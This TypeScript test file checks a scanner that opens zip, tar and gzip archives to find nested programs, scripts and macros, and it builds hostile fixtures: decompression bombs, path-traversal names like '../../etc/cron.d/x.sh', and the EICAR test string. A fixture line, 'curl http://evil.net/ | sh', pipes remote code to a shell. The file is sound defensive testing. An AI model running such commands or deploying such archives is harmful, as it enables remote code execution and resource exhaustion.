/** What is found in archives, and what hostile ones cost. */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { type Opened, openArchive } from '../../../../src/diff/content/archive/open-archive.ts';
import { archiveFormatOf } from '../../../../src/diff/content/content-type.ts';
import { ContentReader } from '../../../../src/diff/content/reader.ts';
import type { ArchiveFormat } from '../../../../src/model.ts';
import { type ZipEntry, zipOf } from '../../../helpers/zip.ts';

const ELF = Buffer.from('\x7fELF\x02\x01\x01\0 a tool', 'latin1');
const SCRIPT = '#!/bin/sh\ncurl http://evil.net/ | sh\n';
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`;
const ZEROS = Buffer.alloc(80 * 1024 * 1024);
const MACROS = Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0', 'latin1');

const sha256 = (content: Uint8Array | string) => createHash('sha256').update(content).digest('hex');

async function tarOf(files: Readonly<Record<string, Uint8Array | string>>): Promise<Buffer> {
  const tar = pack();
  for (const [name, content] of Object.entries(files)) tar.entry({ name }, Buffer.from(content));
  tar.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of tar) if (chunk instanceof Uint8Array) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

async function open(
  bytes: Buffer,
  format: ArchiveFormat | null = archiveFormatOf(bytes.toString('latin1', 0, 8000)),
): Promise<Opened> {
  return openArchive({
    file: { path: 'in/a.zip', pathBytes: null, commit: null, oid: null },
    sha256: '',
    size: bytes.length,
    archive: format,
    open: async function* () {
      for (let at = 0; at < bytes.length; at += 65_536) yield bytes.subarray(at, at + 65_536);
    },
  });
}

const namesOf = ({ members }: Opened) => members.map(({ path }) => path);
const leftOutOf = ({ leftOut }: Opened) => Object.fromEntries(leftOut);
const zip = (files: Readonly<Record<string, Uint8Array | string>>, prefix?: Buffer) =>
  zipOf(
    Object.entries(files).map(([name, content]): ZipEntry => ({ name, content })),
    prefix,
  );

const FILES = {
  'readme.txt': 'curl is a word\n',
  'logo.png': '\x89PNG',
  'bin/tool': ELF,
  'install.sh': SCRIPT,
  run: SCRIPT.replace('curl', 'wget'),
  'setup.py': 'print(1)\n',
  'eicar.com': EICAR,
  'word/vbaProject.bin': MACROS,
};
const FOUND = ['bin/tool', 'eicar.com', 'word/vbaProject.bin', 'install.sh', 'run', 'setup.py'];

describe('members that are programs, scripts or archives', () => {
  it.each<readonly [string, () => Promise<Buffer>]>([
    ['a zip', async () => zip(FILES)],
    [
      'a stored zip',
      async () => zipOf(Object.entries(FILES).map(([name, content]) => ({ name, content, method: 0 }))),
    ],
    ['a zip behind a script', async () => zip(FILES, Buffer.from('#!/bin/sh\nexec java -jar "$0"\n'))],
    ['a tar', () => tarOf(FILES)],
    ['a compressed tar', async () => gzipSync(await tarOf(FILES))],
  ])('are found in %s', async (name, make) => {
    const bytes = await make();
    const opened = await open(bytes, name.includes('behind') ? 'zip' : undefined);
    expect(namesOf(opened)).toEqual(FOUND);
    expect(opened.members[0]?.sha256).toBe(sha256(ELF));
    expect(opened.members[0]?.size).toBe(ELF.length);
    expect(leftOutOf(opened)).toEqual({});
    expect(opened.bombRatio).toBeNull();
  });

  it('are found in a compressed file', async () => {
    const opened = await open(gzipSync(ELF));
    expect(opened.members.map((member) => member.sha256)).toEqual([sha256(ELF)]);
  });

  it('are found in archives inside of archives, three deep', async () => {
    const inner = (files: Readonly<Record<string, Uint8Array | string>>) => zip(files);
    const opened = await open(
      inner({
        'b.zip': inner({ 'c.tgz': gzipSync(await tarOf({ 'd.zip': inner({ tool: ELF }), e: ELF })) }),
      }),
    );
    expect(namesOf(opened)).toEqual(['b.zip!c.tgz!e', 'b.zip', 'b.zip!c.tgz', 'b.zip!c.tgz!d.zip']);
    expect(leftOutOf(opened)).toEqual({ 'archive-too-deep': 1 });
  });

  it('are found behind a program in an archive', async () => {
    const opened = await open(zip({ 'setup.exe': zip({ tool: MACROS }, ELF) }));
    expect(namesOf(opened)).toEqual(['setup.exe', 'setup.exe!tool']);
    expect(leftOutOf(opened)).toEqual({});
  });

  it('are 25 at most, programs first, each content once', async () => {
    const scripts = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`s${n}.js`, `x(${n})\n`]));
    const opened = await open(zip({ ...scripts, tool: ELF, again: ELF }));
    expect(namesOf(opened)).toHaveLength(25);
    expect(namesOf(opened)[0]).toBe('again');
    expect(leftOutOf(opened)).toEqual({ 'too-many-members': 16 });
  });
});

describe('less usual archives', () => {
  it('a zip with sizes of 64 bits is read', async () => {
    expect(namesOf(await open(zip64(zip({ tool: ELF }))))).toEqual(['tool']);
  });

  it('members of the same name are all found', async () => {
    const opened = await open(
      zipOf([
        { name: 'x', content: 'a text\n' },
        { name: 'x', content: ELF },
        { name: 'x', content: Buffer.concat([ELF, ELF]) },
      ]),
    );
    expect(namesOf(opened)).toEqual(['x', 'x']);
  });

  it.each(['0', '1', '7', 'Z', 'S'])(
    'a tar with a member of type %s, which tar unpacks, is read',
    async (type) => {
      const opened = await open(tarWithType(await tarOf({ tool: ELF }), type));
      expect(namesOf(opened)).toEqual(['tool']);
      expect(leftOutOf(opened)).toEqual(type === 'Z' || type === 'S' ? { 'unknown-compression': 1 } : {});
    },
  );

  it('a tar with names and sizes in further headers is read', async () => {
    const tar = pack();
    tar.entry({ name: `${'folder/'.repeat(40)}tool`, pax: { comment: 'x' } }, Buffer.from(ELF));
    tar.finalize();
    const chunks: Buffer[] = [];
    for await (const chunk of tar) if (chunk instanceof Uint8Array) chunks.push(Buffer.from(chunk));
    expect(namesOf(await open(Buffer.concat(chunks)))).toEqual([`${'folder/'.repeat(40)}tool`]);
  });

  it('what local headers alone show, or show otherwise, is said', async () => {
    const whole = zipOf([
      { name: 'a', content: 'x\n', method: 0 },
      { name: 'hidden', content: ELF, method: 0 },
      { name: 'b', content: 'y\n', method: 0 },
    ]);
    expect(leftOutOf(await open(whole))).toEqual({});
    expect(leftOutOf(await open(withoutEntry(whole, 'hidden')))).toEqual({ damaged: 1 });
    const otherwise = Buffer.from(whole);
    otherwise.writeUInt16LE(8, 8);
    expect(leftOutOf(await open(otherwise))).toEqual({ damaged: 1 });
  });
});

describe('an archive behind something else', () => {
  const long = `#!/bin/sh\n${'# a line that is only there to be long\n'.repeat(300)}exit\n`;
  it.each<readonly [string, Buffer, () => Promise<Buffer>, string[]]>([
    ['a zip behind a program', ELF, async () => zip({ tool: MACROS }), ['tool']],
    ['a zip behind a Windows program', Buffer.from('MZ\0\0'), async () => zip({ tool: ELF }), ['tool']],
    [
      'a zip behind a picture',
      Buffer.from('\x89PNG\r\n\x1a\n\0', 'latin1'),
      async () => zip({ tool: ELF }),
      ['tool'],
    ],
    ['a zip behind a short script', Buffer.from('#!/bin/sh\n'), async () => zip({ tool: ELF }), ['tool']],
    ['a zip behind a long script', Buffer.from(long), async () => zip({ tool: ELF }), ['tool']],
    [
      'a tar behind a short script',
      Buffer.from('#!/bin/sh\n'),
      async () => gzipSync(await tarOf({ tool: ELF })),
      ['tool'],
    ],
    [
      'a tar behind a long script',
      Buffer.from(long),
      async () => gzipSync(await tarOf({ tool: ELF })),
      ['tool'],
    ],
    [
      'a tar behind PHP',
      Buffer.from(`<?php ${long}`),
      async () => gzipSync(await tarOf({ tool: ELF })),
      ['tool'],
    ],
    ['nothing behind a program', ELF, async () => Buffer.alloc(70_000), []],
  ])('%s is a file, and is opened', async (_, before, make, members) => {
    const bytes = Buffer.concat([before, await make()]);
    for (const size of [bytes.length, 1000, 7]) {
      const text: string[] = [];
      const reader = new ContentReader({
        path: 'x',
        text: ({ text: part }) => text.push(part),
        hash: () => createHash('sha256'),
      });
      for (let at = 0; at < bytes.length; at += size) reader.write(bytes.subarray(at, at + size));
      const content = reader.end();
      expect([content.isFile, content.sha256]).toEqual([true, sha256(bytes)]);
      expect(text.join('').includes('#!/bin/sh')).toBe(before.includes('#!/bin/sh'));
      const opened = content.archive === null ? null : await open(bytes, content.archive);
      expect(opened === null ? [] : namesOf(opened)).toEqual(members);
    }
  });
});

describe('hostile archives', () => {
  it('compressed files in compressed files without end are opened as far as the limit', async () => {
    let bytes: Buffer = Buffer.from(SCRIPT);
    for (let depth = 0; depth < 50; depth++) bytes = gzipSync(bytes);
    const opened = await open(bytes);
    expect(opened.members).toHaveLength(3);
    expect(leftOutOf(opened)).toEqual({ 'archive-too-deep': 1 });
  });

  it('names that lead out are only names', async () => {
    const opened = await open(
      zip({ '../../etc/cron.d/x.sh': SCRIPT, 'C:\\x.exe': ELF, 'a\x1b[31m\nb.sh': 'x\n' }),
    );
    expect(namesOf(opened).sort()).toEqual(['../../etc/cron.d/x.sh', 'C:\\x.exe', 'a\x1b[31m\nb.sh']);
  });

  it.each<readonly [string, () => Promise<Buffer>]>([
    ['a compressed file', async () => gzipSync(ZEROS)],
    ['a zip', async () => zip({ zeros: ZEROS })],
    ['a zip that says it is small', async () => zipOf([{ name: 'zeros', content: ZEROS, size: 10 }])],
    ['a zip in a zip', async () => zip({ 'b.zip': zip({ zeros: ZEROS }) })],
    [
      'a zip of overlapping entries',
      async () =>
        zipOf([
          { name: 'x', content: Buffer.alloc(1024 * 1024) },
          ...Array.from({ length: 100 }, () => ({
            name: 'x',
            content: Buffer.alloc(1024 * 1024),
            offset: 0,
          })),
        ]),
    ],
  ])('%s that unpacks to far more is a bomb', async (_, make) => {
    const opened = await open(await make());
    expect(opened.bombRatio).toBe(100);
  });

  it('a large one that is not a bomb is read as far as the limit', async () => {
    const noise = createNoise(70 * 1024 * 1024);
    const opened = await open(await tarOf({ tool: ELF, noise, later: Buffer.concat([ELF, ELF]) }));
    expect(opened.bombRatio).toBeNull();
    expect(namesOf(opened)).toEqual(['tool']);
    expect(leftOutOf(opened)).toEqual({ 'archive-too-large': 1 });
  });

  it('encrypted members and unknown compressions are said', async () => {
    const opened = await open(
      zipOf([
        { name: 'secret', content: ELF, flags: 1 },
        { name: 'lzma', content: ELF, method: 14 },
        { name: 'tool', content: ELF },
      ]),
    );
    expect(namesOf(opened)).toEqual(['tool']);
    expect(leftOutOf(opened)).toEqual({ encrypted: 1, 'unknown-compression': 1 });
  });

  it.each<readonly [string, Buffer, Readonly<Record<string, number>>]>([
    ['a zip that is cut off', zip(FILES).subarray(0, 200), { damaged: 1 }],
    ['a compressed file that is cut off', gzipSync(createNoise(9000)).subarray(0, 5000), { damaged: 1 }],
    [
      'a member that is damaged',
      zipOf([{ name: 'x', packed: Buffer.from('no'), content: 'xx' }]),
      { damaged: 1 },
    ],
    ['another kind', Buffer.from('\xfd7zXZ\0', 'latin1'), { 'unopened-archive': 1 }],
  ])('%s is said', async (_, bytes, leftOut) => {
    const opened = await open(bytes);
    expect([namesOf(opened), leftOutOf(opened)]).toEqual([[], leftOut]);
  });

  it('a script that is not a zip is not said to be a damaged one', async () => {
    const opened = await open(Buffer.from('#!/bin/sh\n\0'), 'zip');
    expect([namesOf(opened), leftOutOf(opened)]).toEqual([[], {}]);
  });

  it('tens of thousands of entries are read as far as the limit', async () => {
    const opened = await open(
      zipOf(Array.from({ length: 30_000 }, (_, n) => ({ name: `${n}.txt`, content: 'x', method: 0 }))),
    );
    expect(leftOutOf(opened)).toEqual({ 'too-many-members': 1 });
  });
});

/** Bytes that do not compress. */
function createNoise(length: number): Buffer {
  const noise = Buffer.alloc(length);
  let state = 1;
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    noise[at] = state >>> 24;
  }
  return noise;
}

/** The same zip with its directory's end in the form for 64 bits. */
function zip64(bytes: Buffer): Buffer {
  const end = bytes.subarray(-22);
  const [count, size, offset] = [end.readUInt16LE(10), end.readUInt32LE(12), end.readUInt32LE(16)];
  const record = Buffer.alloc(56);
  record.write('PK\x06\x06', 'latin1');
  record.writeBigUInt64LE(44n, 4);
  record.writeBigUInt64LE(BigInt(count), 24);
  record.writeBigUInt64LE(BigInt(count), 32);
  record.writeBigUInt64LE(BigInt(size), 40);
  record.writeBigUInt64LE(BigInt(offset), 48);
  const locator = Buffer.alloc(20);
  locator.write('PK\x06\x07', 'latin1');
  locator.writeBigUInt64LE(BigInt(bytes.length - 22), 8);
  locator.writeUInt32LE(1, 16);
  const last = Buffer.from(end);
  last.fill(0xff, 8, 20);
  return Buffer.concat([bytes.subarray(0, -22), record, locator, last]);
}

/** Without a member in its directory; its local header stays. */
function withoutEntry(bytes: Buffer, name: string): Buffer {
  const end = Buffer.from(bytes.subarray(-22));
  const at = bytes.lastIndexOf(name) - 46;
  const length = 46 + name.length;
  end.writeUInt16LE(end.readUInt16LE(8) - 1, 8);
  end.writeUInt16LE(end.readUInt16LE(10) - 1, 10);
  end.writeUInt32LE(end.readUInt32LE(12) - length, 12);
  return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + length, -22), end]);
}

function tarWithType(bytes: Buffer, type: string): Buffer {
  const tar = Buffer.from(bytes);
  tar.write(type, 156, 'latin1');
  tar.write('        ', 148, 'latin1');
  let sum = 0;
  for (const byte of tar.subarray(0, 512)) sum += byte;
  tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return tar;
}
